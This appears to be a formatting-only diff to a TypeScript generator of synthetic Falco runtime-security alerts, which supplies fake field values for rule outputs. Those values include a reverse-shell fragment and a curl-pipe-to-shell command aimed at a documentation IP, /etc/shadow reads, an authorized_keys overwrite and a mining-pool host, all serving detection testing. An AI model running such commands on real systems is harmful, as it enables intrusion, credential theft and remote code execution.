@@ -55,8 +55,15 @@ export function upstreamRules(files: readonly string[] = UPSTREAM_RULE_FILES): U
 
 /** falco_common.cpp's names: the alert carries the long form whatever the rules file wrote. */
 const PRIORITY_NAMES: Record<string, string> = {
-  emergency: 'Emergency', alert: 'Alert', critical: 'Critical', error: 'Error', warning: 'Warning',
-  notice: 'Notice', informational: 'Informational', info: 'Informational', debug: 'Debug',
+  emergency: 'Emergency',
+  alert: 'Alert',
+  critical: 'Critical',
+  error: 'Error',
+  warning: 'Warning',
+  notice: 'Notice',
+  informational: 'Informational',
+  info: 'Informational',
+  debug: 'Debug',
 }
 
 /** A field token in an output format: `%proc.name`, `%proc.aname[2]`, `%evt.arg.flags`, `%(x.y)`. */
@@ -113,73 +120,132 @@ function valueOf(field: string, s: Scene): Value {
     return Number(anc[1]) - 2 < chain.length - (odd ? 2 : 0) ? chain[Number(anc[1]) - 2]! : null
   }
   switch (field) {
-    case 'evt.time': return { bigint: s.timeNs.toString() }
-    case 'evt.type': return s.evtType
+    case 'evt.time':
+      return { bigint: s.timeNs.toString() }
+    case 'evt.type':
+      return s.evtType
     case 'evt.arg.flags':
       if (s.evtType === 'execve') return odd ? 'EXE_WRITABLE|EXE_UPPER_LAYER' : 'EXE_WRITABLE|EXE_LOWER_LAYER'
       if (s.evtType === 'openat') return 'O_RDONLY|O_CLOEXEC'
       return s.n % 3 === 0 ? null : '0'
-    case 'evt.args': return `fd=3(<f>/etc/shadow) dirfd=-100(AT_FDCWD) name=/etc/shadow flags=4097(O_RDONLY|O_CLOEXEC) mode=0 dev=FD01 ino=262155`
-    case 'evt.res': return odd ? 'SUCCESS' : 'EPERM'
-    case 'evt.arg.cmd': return 'PTRACE_ATTACH'
-    case 'evt.arg.fd': return '3(<4t>10.0.1.5:43210->203.0.113.80:4444)'
-    case 'evt.arg.filename': return '/tmp/.x/payload'
-    case 'evt.arg.linkpath': return '/tmp/shadow-link'
-    case 'evt.arg.mode': return 'S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID'
-    case 'evt.arg.name': return odd ? '/var/log/auth.log' : 'kworker'
-    case 'evt.arg.newpath': return '/root/.ssh/authorized_keys'
-    case 'evt.arg.oldpath': return '/tmp/keys'
-    case 'evt.arg.path': return '/etc/cron.d/job'
-    case 'evt.arg.target': return '/etc/shadow'
-    case 'evt.arg.uid': return '0'
-    case 'user.name': return odd ? 'www-data' : 'root'
-    case 'user.uid': return odd ? 33 : 0
-    case 'user.loginuid': return odd ? 1000 : -1
-    case 'user.loginname': return odd ? 'ec2-user' : null
-    case 'group.gid': return 0
-    case 'group.name': return 'root'
-    case 'proc.name': return s.evtType === 'execve' ? 'bash' : 'python3'
-    case 'proc.exepath': return s.evtType === 'execve' ? '/usr/bin/bash' : '/usr/local/bin/python3.12'
-    case 'proc.exe': return 'bash'
-    case 'proc.pname': return odd ? null : 'node'
-    case 'proc.pexe': return '/usr/local/bin/node'
-    case 'proc.pexepath': return '/usr/local/bin/node'
-    case 'proc.sname': return 'bash'
+    case 'evt.args':
+      return `fd=3(<f>/etc/shadow) dirfd=-100(AT_FDCWD) name=/etc/shadow flags=4097(O_RDONLY|O_CLOEXEC) mode=0 dev=FD01 ino=262155`
+    case 'evt.res':
+      return odd ? 'SUCCESS' : 'EPERM'
+    case 'evt.arg.cmd':
+      return 'PTRACE_ATTACH'
+    case 'evt.arg.fd':
+      return '3(<4t>10.0.1.5:43210->203.0.113.80:4444)'
+    case 'evt.arg.filename':
+      return '/tmp/.x/payload'
+    case 'evt.arg.linkpath':
+      return '/tmp/shadow-link'
+    case 'evt.arg.mode':
+      return 'S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID'
+    case 'evt.arg.name':
+      return odd ? '/var/log/auth.log' : 'kworker'
+    case 'evt.arg.newpath':
+      return '/root/.ssh/authorized_keys'
+    case 'evt.arg.oldpath':
+      return '/tmp/keys'
+    case 'evt.arg.path':
+      return '/etc/cron.d/job'
+    case 'evt.arg.target':
+      return '/etc/shadow'
+    case 'evt.arg.uid':
+      return '0'
+    case 'user.name':
+      return odd ? 'www-data' : 'root'
+    case 'user.uid':
+      return odd ? 33 : 0
+    case 'user.loginuid':
+      return odd ? 1000 : -1
+    case 'user.loginname':
+      return odd ? 'ec2-user' : null
+    case 'group.gid':
+      return 0
+    case 'group.name':
+      return 'root'
+    case 'proc.name':
+      return s.evtType === 'execve' ? 'bash' : 'python3'
+    case 'proc.exepath':
+      return s.evtType === 'execve' ? '/usr/bin/bash' : '/usr/local/bin/python3.12'
+    case 'proc.exe':
+      return 'bash'
+    case 'proc.pname':
+      return odd ? null : 'node'
+    case 'proc.pexe':
+      return '/usr/local/bin/node'
+    case 'proc.pexepath':
+      return '/usr/local/bin/node'
+    case 'proc.sname':
+      return 'bash'
     case 'proc.cmdline':
       if (s.n % 5 === 4) return `java -Dlog4j2.formatMsgNoLookups=false -cp ${'/opt/app/lib/dependency-1.0.jar:'.repeat(120)}/opt/app/app.jar com.example.Main — ünïcødé ✓`
       return odd ? `python3 -c import socket,os;s=socket.socket();s.connect(("203.0.113.80",4444))` : 'bash -c "curl -fsSL http://203.0.113.80/x.sh | sh"'
-    case 'proc.pcmdline': return odd ? null : 'node /app/server.js --port=8080'
-    case 'proc.args': return '-c "id; uname -a"'
-    case 'proc.cwd': return '/app/'
-    case 'proc.env': return 'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin HOSTNAME=cart-api-7d9c6b7b9c-x2x8k LANG=C.UTF-8 GREETING=héllo'
-    case 'proc.tty': return odd ? 0 : 34816
-    case 'proc.aexepath[2]': return '/usr/bin/containerd-shim-runc-v2'
-    case 'proc.exe_ino.ctime': return { bigint: (s.timeNs - 120_000_000_000n).toString() }
-    case 'proc.exe_ino.mtime': return { bigint: (s.timeNs - 120_000_000_000n).toString() }
-    case 'proc.exe_ino.ctime_duration_proc_start': return 118_000_000_000
+    case 'proc.pcmdline':
+      return odd ? null : 'node /app/server.js --port=8080'
+    case 'proc.args':
+      return '-c "id; uname -a"'
+    case 'proc.cwd':
+      return '/app/'
+    case 'proc.env':
+      return 'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin HOSTNAME=cart-api-7d9c6b7b9c-x2x8k LANG=C.UTF-8 GREETING=héllo'
+    case 'proc.tty':
+      return odd ? 0 : 34816
+    case 'proc.aexepath[2]':
+      return '/usr/bin/containerd-shim-runc-v2'
+    case 'proc.exe_ino.ctime':
+      return { bigint: (s.timeNs - 120_000_000_000n).toString() }
+    case 'proc.exe_ino.mtime':
+      return { bigint: (s.timeNs - 120_000_000_000n).toString() }
+    case 'proc.exe_ino.ctime_duration_proc_start':
+      return 118_000_000_000
     case 'fd.name':
       if (net) return '10.0.1.5:43210->203.0.113.80:4444'
       if (s.evtType === 'execve') return s.n % 3 === 0 ? null : '/usr/bin/bash'
       return '/etc/shadow'
-    case 'fd.nameraw': return '/etc/../etc/shadow'
-    case 'fd.type': return net ? 'ipv4' : 'file'
-    case 'fd.l4proto': return net ? 'tcp' : null
-    case 'fd.lport': return net ? 43210 : null
-    case 'fd.rport': return net ? 4444 : null
-    case 'fd.sport': return net ? 4444 : null
-    case 'fd.rip': return net ? '203.0.113.80' : null
-    case 'fd.sip': return net ? '203.0.113.80' : null
-    case 'fd.rip.name': case 'fd.sip.name': return net && !odd ? 'pool.minexmr.example' : null
-    case 'fd.cip.name': case 'fd.lip.name': return null
-    case 'thread.cap_effective': case 'thread.cap_permitted': return 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_SETGID CAP_SETUID CAP_NET_BIND_SERVICE CAP_SYS_ADMIN'
-    case 'container.id': return host ? 'host' : '3ad7b26ded6d'
-    case 'container.name': return host ? 'host' : 'cart-api'
-    case 'container.image.repository': return host ? '' : '111122223333.dkr.ecr.eu-west-1.amazonaws.com/shop/cart-api'
-    case 'container.image.tag': return host ? '' : '2.14.3'
-    case 'container.mounts': return host ? '' : '/var/run/docker.sock:/var/run/docker.sock::true:private,/proc:/host/proc::false:rprivate'
-    case 'container.start_ts': return host ? null : { bigint: (s.timeNs - 3_600_000_000_000n).toString() }
-    case 'k8s.pod.name': return host ? null : 'cart-api-7d9c6b7b9c-x2x8k'
-    case 'k8s.ns.name': return host ? null : 'shop'
+    case 'fd.nameraw':
+      return '/etc/../etc/shadow'
+    case 'fd.type':
+      return net ? 'ipv4' : 'file'
+    case 'fd.l4proto':
+      return net ? 'tcp' : null
+    case 'fd.lport':
+      return net ? 43210 : null
+    case 'fd.rport':
+      return net ? 4444 : null
+    case 'fd.sport':
+      return net ? 4444 : null
+    case 'fd.rip':
+      return net ? '203.0.113.80' : null
+    case 'fd.sip':
+      return net ? '203.0.113.80' : null
+    case 'fd.rip.name':
+    case 'fd.sip.name':
+      return net && !odd ? 'pool.minexmr.example' : null
+    case 'fd.cip.name':
+    case 'fd.lip.name':
+      return null
+    case 'thread.cap_effective':
+    case 'thread.cap_permitted':
+      return 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_SETGID CAP_SETUID CAP_NET_BIND_SERVICE CAP_SYS_ADMIN'
+    case 'container.id':
+      return host ? 'host' : '3ad7b26ded6d'
+    case 'container.name':
+      return host ? 'host' : 'cart-api'
+    case 'container.image.repository':
+      return host ? '' : '111122223333.dkr.ecr.eu-west-1.amazonaws.com/shop/cart-api'
+    case 'container.image.tag':
+      return host ? '' : '2.14.3'
+    case 'container.mounts':
+      return host ? '' : '/var/run/docker.sock:/var/run/docker.sock::true:private,/proc:/host/proc::false:rprivate'
+    case 'container.start_ts':
+      return host ? null : { bigint: (s.timeNs - 3_600_000_000_000n).toString() }
+    case 'k8s.pod.name':
+      return host ? null : 'cart-api-7d9c6b7b9c-x2x8k'
+    case 'k8s.ns.name':
+      return host ? null : 'shop'
     default:
       // A field this generator has no value for: Falco would still name it; keep the event honest.
       return null
@@ -206,8 +272,7 @@ const HOSTNAME = 'ip-10-0-12-34.eu-west-1.compute.internal'
  */
 export function alertFor(rule: UpstreamRule, n: number, startNs: bigint): GeneratedAlert {
   const tagsSay = (t: string) => rule.tags.includes(t)
-  const variant: GeneratedAlert['variant'] =
-    rule.source !== 'syscall' ? 'host' : !tagsSay('host') ? 'container' : !tagsSay('container') ? 'host' : (['container', 'host', 'host-suggested'] as const)[n % 3]!
+  const variant: GeneratedAlert['variant'] = rule.source !== 'syscall' ? 'host' : !tagsSay('host') ? 'container' : !tagsSay('container') ? 'host' : (['container', 'host', 'host-suggested'] as const)[n % 3]!
   const timeNs = startNs + BigInt(n) * 1_003_117n
   const scene: Scene = { n, variant, evtType: eventType(rule.condition, rule.output), timeNs }
   const format = rule.source === 'syscall' && variant !== 'host' ? `${rule.output} ${SUGGESTED}` : rule.output
@@ -218,7 +283,10 @@ export function alertFor(rule: UpstreamRule, n: number, startNs: bigint): Genera
   if (!priority) throw new Error(`${rule.file}: ${rule.rule}: priority ${rule.priority}`)
   const iso = isoNanos(timeNs)
   const text = `${iso.slice(11, 29)}: ${priority} ${format.replace(FIELD, (_, f: string) => render(values.get(f) ?? null))}`
-  const fields = [...values.keys()].sort().map((k) => `${JSON.stringify(k)}:${json(values.get(k)!, n % 4 === 3)}`).join(',')
+  const fields = [...values.keys()]
+    .sort()
+    .map((k) => `${JSON.stringify(k)}:${json(values.get(k)!, n % 4 === 3)}`)
+    .join(',')
   const tags = [...new Set(rule.tags)].sort()
   const parts = [
     `"hostname":${JSON.stringify(HOSTNAME)}`,
